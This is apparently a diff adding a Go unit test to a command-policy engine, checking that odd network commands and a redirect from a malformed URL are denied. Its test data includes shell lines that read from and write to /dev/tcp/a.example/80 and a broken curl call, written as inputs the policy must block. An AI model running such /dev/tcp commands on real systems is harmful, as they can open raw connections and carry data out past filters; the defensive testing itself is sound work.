@@ -182,3 +182,21 @@ func BenchmarkWayOut(b *testing.B) {
 		s.Decide(r)
 	}
 }
+
+// TestOddWaysOut: a network command that cannot be read, one by a redirection alone, and a redirect from what is no
+// address.
+func TestOddWaysOut(t *testing.T) {
+	t.Parallel()
+	s := newSet(t, policy.Options{AllowNetwork: true, Permissions: perms("allow *")})
+	for _, text := range []string{"curl https://a.example/ '", "cat </dev/tcp/a.example/80", "echo x >/dev/tcp/a.example/80"} {
+		r := bash(text)
+		r.Foreign, r.Session, r.Caller = "https://page.example", "s", "ann"
+		if d := s.Decide(r); d.Effect == policy.Allow {
+			t.Errorf("%q: %+v", text, d)
+		}
+	}
+	from := policy.Address{URL: "https://%zz"}
+	if s.Follows(foreignCall("fetch", built("https://a.example/")), built("https://a.example/"), from, built("https://b.example/")) {
+		t.Error("a redirect from no address was followed")
+	}
+}
